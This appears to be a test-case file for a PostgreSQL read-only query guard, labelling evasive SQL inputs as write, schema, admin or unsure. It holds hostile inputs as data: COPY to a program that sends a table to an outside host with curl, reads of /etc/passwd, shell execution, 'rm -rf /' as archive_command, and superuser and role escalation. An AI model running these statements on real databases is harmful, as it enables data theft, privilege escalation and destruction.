# write: comments hide nothing
/* select */ delete from orders
====
# unsure: comments within words of the statement
de/**/lete from orders
====
# write: a comment in place of a space
delete/**/from/**/orders where/**/id=1
====
# write: nested comments
/* /* */ select 1; */ update orders set total = 0 where id = 1
====
# write: a comment to the end of the line
select 1; -- ; nothing
delete from orders where id = 1
====
# write: a carriage return ends a comment
-- select
delete from orders where id = 1
====
# write: a comment that a minus begins within an operator
select 1 --+ 
; truncate orders
====
# write: a comment within an operator
select 1 +/* ' */ 2; delete from orders where note = ' */'
====
# write: literals hide nothing
select 'a'';'; delete from orders where id = 1
====
# write: an escape string that ends where a plain one would not
select E'\''; delete from orders where id = 1; select ''
====
# write: a backslash in a plain string is one character
select '\'; delete from orders where id = 1 --'
====
# write: a string that goes on does not hide
select 'a'
'b'; delete from orders where id = 1; select ''
====
# unsure: strings on one line are two
select 'a' 'b'; delete from orders
====
# write: dollar quotes end at their own tag
select $a$ $$ $b$ $a$; delete from orders where id = 1; select $a$ $a$
====
# write: a dollar sign in a name begins no string
select 1 as a$b$; delete from orders where id = 1; select 1 as a$b$
====
# write: a parameter begins no string
select $1; delete from orders where id = $2
====
# write: quoted names
select 1 as "a"";"; delete from "orders" where id = 1
====
# write: unicode names
update U&"\006frders" set total = 0 where id = 1
====
# write: unicode names with another escape
update U&"!006frders" uescape '!' set total = 0 where id = 1
====
# write: WITH that deletes
with gone as (delete from orders where id = 1 returning *) select * from gone
====
# write: WITH that inserts and is not used
with x as (insert into orders default values) select 1
====
# write: WITH that updates within WITH
with x as (with y as (update orders set total = 0 where id = 1 returning 1) select * from y) select * from x
====
# write: WITH of a name that is a table
with orders as (delete from orders where id = 1 returning id) select * from orders
====
# write: WITH in a subquery of FROM
select * from (with x as (select 1) select * from x) s; delete from orders where id = 1
====
# write: INSERT that reads
insert into copied select * from orders
====
# write: INSERT ON CONFLICT
insert into orders (id) values (1) on conflict (id) do update set total = 0
====
# write: MERGE
merge into orders o using changes c on o.id = c.id when matched then delete
====
# write: EXPLAIN ANALYZE does it
explain analyze delete from orders where id = 1
====
# write: EXPLAIN ANALYZE as an option
explain (analyze) delete from orders where id = 1
====
# write: EXPLAIN ANALYZE, the last one counts
explain (analyze false, analyze) delete from orders where id = 1
====
# write: EXPLAIN ANALYZE with a value in words
explain (analyze 'on', timing off) update orders set total = 0 where id = 1
====
# write: EXPLAIN ANALYZE with a number
explain (costs off, analyze 1) insert into orders default values
====
# write: EXPLAIN ANALYZE VERBOSE of WITH
explain analyze verbose with x as (delete from orders where id = 1 returning 1) select * from x
====
# unsure: EXPLAIN computes functions while it plans
explain select drop_everything()
====
# schema: EXPLAIN ANALYZE of CREATE TABLE AS
explain analyze create table x as select * from orders
====
# unsure: EXPLAIN ANALYZE EXECUTE
explain analyze execute q(1)
====
# unsure: DO
do $$ begin delete from orders; end $$
====
# unsure: DO in another language, in quotes
do language plpgsql 'begin delete from orders; end'
====
# unsure: DO after something harmless
select 1; do $x$begin execute 'drop table orders'; end$x$
====
# unsure: CALL
call purge()
====
# unsure: CALL in a schema
call maintenance.purge(1, 'x')
====
# unsure: a function of the user's own
select delete_all()
====
# unsure: a function in FROM
select * from delete_all() as x
====
# unsure: a function in WHERE
select 1 from orders where delete_all() is null
====
# unsure: a function in ORDER BY
select 1 from orders order by purge(id)
====
# unsure: a function in a window
select sum(1) over (partition by purge(id)) from orders
====
# unsure: a function in FILTER
select count(*) filter (where purge(id)) from orders
====
# unsure: a function in LIMIT
select 1 limit purge(1)
====
# unsure: a function in a default argument of COALESCE
select coalesce(null, purge(1))
====
# unsure: a function in CASE
select case when true then purge(1) end
====
# unsure: a function in VALUES
values (1), (purge(1))
====
# unsure: a function in ARRAY
select array[1, purge(2)]
====
# unsure: a function in LATERAL ROWS FROM
select * from rows from (generate_series(1,2), purge(1)) as x
====
# unsure: a function with a quoted name
select "Delete_All"()
====
# unsure: a function of a schema called like one that is built in
select public.lower('a')
====
# unsure: a function of a temporary schema
select pg_temp.lower('a')
====
# unsure: a function of another catalog's schema
select other.pg_catalog.purge('a')
====
# unsure: a function by named arguments
select purge(what => 'orders')
====
# unsure: a function that is variadic
select purge(variadic array[1])
====
# unsure: an aggregate of the user's own
select my_agg(distinct a order by b) from orders
====
# unsure: an operator of the user's own
select 1 operator(public.+) 2
====
# unsure: an operator with a name that is not built in
select a <=> b from orders
====
# unsure: an operator in ANY
select a operator(evil.=) any (select 1) from orders
====
# unsure: an operator in ORDER BY USING
select a from orders order by a using operator(evil.<)
====
# unsure: a cast to a type of the user's own
select 'x'::evil_type
====
# unsure: a cast in other words
select cast('x' as public.evil_type), evil.t 'x'
====
# unsure: a type of a column of a function
select * from json_to_record('{}') as x(a evil_type)
====
# unsure: a sampling method
select * from orders tablesample evil(1)
====
# unsure: a default that calls a function
create table t (a int default purge(1))
====
# unsure: an index that calls a function
create index on orders (purge(id))
====
# admin: COPY to a program
copy orders to program 'curl -d @- http://203.0.113.1'
====
# admin: COPY from a program
copy orders from program 'id'
====
# admin: COPY of a query to a program
copy (select 1) to program $$sh -c 'id'$$
====
# admin: COPY with comments
copy/**/orders/**/to/**/program/**/'id'
====
# admin: COPY to a file
copy orders to '/tmp/x'
====
# admin: COPY from a file
copy orders from '/etc/passwd'
====
# admin: COPY to a file, in an escape string
copy orders to E'\057tmp/x' with csv
====
# write: COPY FROM STDIN
copy orders from stdin
====
# write: COPY of a query that writes
copy (delete from orders where id = 1 returning *) to stdout
====
# unsure: COPY of a query that calls
copy (select purge(1)) to stdout
====
# write: several statements
select 1; select 2; delete from orders where id = 1
====
# write: several statements without spaces
select 1;delete from orders where id=1;select 2
====
# schema: several statements in a transaction
begin; drop table orders; commit
====
# unsure: EXECUTE of what is not known
execute q
====
# unsure: EXECUTE with arguments
execute q (1, 'x')
====
# write: PREPARE of a write
prepare q as delete from orders where id = 1
====
# unsure: PREPARE of a function
prepare q as select purge($1)
====
# unsure: CREATE TABLE AS EXECUTE
create table x as execute q
====
# write: DECLARE of what locks
declare c cursor for select * from orders for update
====
# unsure: DECLARE of a function
declare c cursor for select purge(1)
====
# admin: SET ROLE
set role postgres
====
# admin: SET ROLE in other words
set session role to 'postgres'
====
# admin: SET LOCAL ROLE
SET LOCAL ROLE "postgres"
====
# admin: SET ROLE NONE
set role none
====
# admin: RESET ROLE
reset role
====
# admin: RESET ROLE in other words
set role to default
====
# admin: set_config of role
select set_config('role', 'none', false)
====
# admin: set_config in its schema and other case
select pg_catalog."set_config"('ROLE', 'postgres', true)
====
# admin: set_config in a WHERE
select 1 from orders where set_config('role', 'none', false) is null
====
# admin: set_config with an escape string
select set_config(E'\x72ole', 'none', false)
====
# admin: set_config by a unicode name
select U&"set\005fconfig"('role', 'none', false)
====
# unsure: set_config by a name that is computed
select set_config('ro' || 'le', 'none', false)
====
# unsure: set_config by a parameter
select set_config($1, $2, false)
====
# unsure: set_config by named arguments
select set_config(setting_name => 'role', new_value => 'none', is_local => false)
====
# unsure: set_config by a column
select set_config(name, 'none', false) from (values ('role')) v(name)
====
# unsure: set_config of search_path by a parameter
select set_config('search_path', $1, false)
====
# admin: SET SESSION AUTHORIZATION
set session authorization postgres
====
# admin: SET SESSION AUTHORIZATION DEFAULT
set local session authorization default
====
# admin: RESET SESSION AUTHORIZATION
reset session authorization
====
# admin: session_authorization as a setting
set session_authorization = 'postgres'
====
# unsure: query_to_xml
select query_to_xml('delete from orders returning *', true, true, '')
====
# unsure: query_to_xml and its schema
select pg_catalog.query_to_xml_and_xmlschema($$select email from customers$$, true, true, '')
====
# unsure: table_to_xml
select table_to_xml('customers', true, false, '')
====
# unsure: schema_to_xml
select schema_to_xml('public', true, false, '')
====
# unsure: database_to_xml
select database_to_xml(true, true, '')
====
# unsure: cursor_to_xml
select cursor_to_xml('c', 10, true, true, '')
====
# unsure: ts_stat
select * from ts_stat('select to_tsvector(email) from customers')
====
# unsure: ts_rewrite
select ts_rewrite('a'::tsquery, 'select a, b from orders')
====
# unsure: dblink
select * from dblink('dbname=other', 'delete from orders') as x(a int)
====
# unsure: dblink_exec
select public.dblink_exec('c', 'drop table orders')
====
# unsure: crosstab
select * from crosstab('select 1, 2, 3') as x(a int, b int)
====
# admin: large objects, reading
select lo_get(1234)
====
# admin: large objects, writing
select lo_put(1234, 0, 'x'), lo_from_bytea(0, 'x')
====
# admin: large objects, files
select lo_import('/etc/passwd'), lo_export(1, '/tmp/x')
====
# admin: large objects, descriptors
select loread(lo_open(1, 262144), 100), lowrite(0, 'x'), lo_unlink(1)
====
# admin: files
select pg_read_file('/etc/passwd')
====
# admin: files, binary
select encode(pg_catalog.pg_read_binary_file('postgresql.conf'), 'base64')
====
# admin: folders
select * from pg_ls_dir('.'), pg_ls_logdir(), pg_stat_file('x')
====
# admin: other sessions
select pg_terminate_backend(pid), pg_cancel_backend(pid) from pg_stat_activity
====
# admin: the server's settings
select pg_reload_conf(), pg_rotate_logfile()
====
# admin: the log
select pg_switch_wal(), pg_create_restore_point('x')
====
# admin: replication
select * from pg_logical_slot_get_changes('s', null, null)
====
# admin: replication, messages
select pg_logical_emit_message(true, 'a', 'b')
====
# admin: statistics
select pg_stat_reset()
====
# write: nextval
select nextval('orders_id_seq')
====
# write: setval
select setval('orders_id_seq', 1, false)
====
# write: pg_notify
select pg_notify('c', 'x')
====
# write: advisory locks
select pg_advisory_lock(1), pg_try_advisory_xact_lock(2)
====
# write: transaction IDs
select txid_current()
====
# write: FOR UPDATE
select * from orders where id = 1 for update
====
# write: FOR SHARE
select * from orders for key share of orders nowait
====
# write: FOR UPDATE in a subquery
select * from (select * from orders for no key update skip locked) x
====
# schema: SELECT INTO
select * into copied from orders
====
# schema: SELECT INTO a temporary table
select id into temp table x from orders
====
# write: NOTIFY
notify orders_changed, 'x'
====
# write: LOCK
lock table orders
====
# write: LOCK in exclusive mode
lock orders in access exclusive mode
====
# write: TRUNCATE
truncate orders
====
# write: VACUUM
vacuum full orders
====
# write: BEGIN READ WRITE
begin read write
====
# write: START TRANSACTION READ WRITE
start transaction isolation level serializable, read write
====
# write: SET TRANSACTION READ WRITE
set transaction read write
====
# write: SET SESSION CHARACTERISTICS READ WRITE
set session characteristics as transaction read write
====
# write: default_transaction_read_only
set default_transaction_read_only = off
====
# write: transaction_read_only
set transaction_read_only to false
====
# write: transaction_read_only by set_config
select set_config('transaction_read_only', 'off', true)
====
# write: default_transaction_read_only to what it was
reset default_transaction_read_only
====
# unsure: standard_conforming_strings off
set standard_conforming_strings = off
====
# unsure: standard_conforming_strings by set_config
select set_config('standard_conforming_strings', 'off', false)
====
# admin: backslash_quote
set backslash_quote = on
====
# unsure: client_encoding
set client_encoding to 'SJIS'
====
# unsure: SET NAMES
set names 'GBK'
====
# unsure: client_encoding by set_config
select set_config('client_encoding', 'BIG5', false)
====
# unsure: search_path that shadows what is built in
set search_path = evil, pg_catalog
====
# unsure: search_path with the temporary schema
set search_path = pg_temp, pg_catalog
====
# unsure: search_path that begins with what is built in
set search_path = pg_catalog, public
====
# unsure: search_path by SET SCHEMA
set schema 'pg_temp'
====
# unsure: search_path in quotes
select set_config('search_path', 'evil, "pg_catalog"', false)
====
# unsure: search_path by set_config
select set_config('search_path', 'evil,pg_catalog', false)
====
# admin: session_replication_role
set session_replication_role = replica
====
# admin: settings of the user's own
set app.tenant = '1'
====
# admin: what a setting was
set work_mem from current
====
# admin: SET TRANSACTION SNAPSHOT
set transaction snapshot '00000003-0000001B-1'
====
# admin: lo_compat_privileges and other settings
set lo_compat_privileges = on; set local_preload_libraries = 'x'
====
# admin: two-phase commit
prepare transaction 'x'
====
# admin: two-phase commit of another session
commit prepared 'x'
====
# admin: ALTER SYSTEM
alter system set archive_command = 'rm -rf /'
====
# admin: ALTER ROLE SET
alter role app set search_path = evil
====
# admin: ALTER DATABASE SET
alter database postgres set role = postgres
====
# admin: CREATE ROLE
create role x superuser login
====
# admin: GRANT
grant all on orders to public
====
# admin: GRANT of a role
grant postgres to app
====
# admin: REVOKE
revoke select on orders from app
====
# admin: default privileges
alter default privileges grant all on tables to public
====
# admin: owner
alter table orders owner to app
====
# admin: REASSIGN OWNED
reassign owned by app to postgres
====
# admin: DROP OWNED
drop owned by app
====
# admin: row security
alter table orders disable row level security
====
# admin: policies
create policy p on orders using (true)
====
# admin: DROP POLICY
drop policy p on orders
====
# admin: triggers disabled
alter table orders disable trigger all
====
# admin: LOAD
load 'evil'
====
# admin: CREATE EXTENSION
create extension dblink
====
# admin: DROP EXTENSION
drop extension if exists dblink cascade
====
# admin: CREATE LANGUAGE
create language plpython3u
====
# admin: foreign servers
create server s foreign data wrapper postgres_fdw
====
# admin: user mappings
create user mapping for app server s options (password 'x')
====
# admin: IMPORT FOREIGN SCHEMA
import foreign schema public from server s into public
====
# admin: foreign tables
create foreign table t (a int) server s
====
# admin: event triggers
create event trigger t on ddl_command_end execute function f()
====
# admin: publications
create publication p for all tables
====
# admin: subscriptions
create subscription s connection 'host=203.0.113.1' publication p
====
# admin: tablespaces
create tablespace t location '/tmp'
====
# admin: databases
create database x
====
# admin: DROP DATABASE
drop database x
====
# admin: security labels
security label on table orders is 'x'
====
# admin: CHECKPOINT
checkpoint
====
# admin: access methods
create access method m type table handler h
====
# admin: a grant in CREATE SCHEMA
create schema x grant all on schema x to public
====
# schema: CREATE FUNCTION
create function purge() returns void language sql as 'delete from orders'
====
# schema: CREATE FUNCTION whose body is SQL
create function purge() returns void begin atomic delete from orders; select 1; end
====
# schema: CREATE TRIGGER
create trigger t after insert on orders for each row execute function f()
====
# schema: CREATE RULE
create rule r as on insert to orders do also delete from items
====
# schema: CREATE VIEW
create or replace view v as select * from orders
====
# schema: DROP
drop table if exists orders cascade
====
# schema: ALTER TABLE
alter table orders add column x int
====
# schema: CREATE TABLE AS
create table x as select * from orders
====
# schema: CREATE TEMP TABLE
create temporary table orders (id int)
====
# schema: REFRESH
refresh materialized view mv
====
# schema: REINDEX
reindex table orders
====
# schema: COMMENT
comment on table orders is 'x'
====
# schema: RENAME
alter table orders rename to gone
====
# unsure: a number that older servers read as a number and a name
select 0x1f
====
# unsure: a number with underscores
select 1_000
====
# unsure: letters after a number
select 1a
====
# unsure: a character that SQL does not have
select 1 \ 2
====
# unsure: a string that does not end
select 'a
====
# unsure: a comment that does not end
select 1 /* delete from orders
====
# unsure: a dollar quote that does not end
select $$a
====
# unsure: a syntax error
selct 1
====
# unsure: psql's own commands
\copy orders to '/tmp/x'
====
# unsure: a write to pg_settings is SET
update pg_settings set setting = 'postgres' where name = 'session_authorization'
====
# unsure: a write to pg_settings by another name
with x as (update pg_catalog."pg_settings" s set setting = 'off' where s.name = 'standard_conforming_strings' returning 1) select * from x
====
# admin: a write to the catalog
update pg_catalog.pg_proc set prosrc = 'x' where oid = 1
====
# admin: a write to the catalog, without its schema
delete from pg_class where oid = 1
====
# admin: COPY into the catalog
copy pg_authid from stdin
====
# unsure: a function that is syntax in PostgreSQL 17
select json_value('{}', '$.a')
====
# unsure: a function that is syntax in PostgreSQL 16
select json_array(1, 2)
====
# unsure: a function that is syntax in PostgreSQL 17, and of the user's own before
select merge_action()
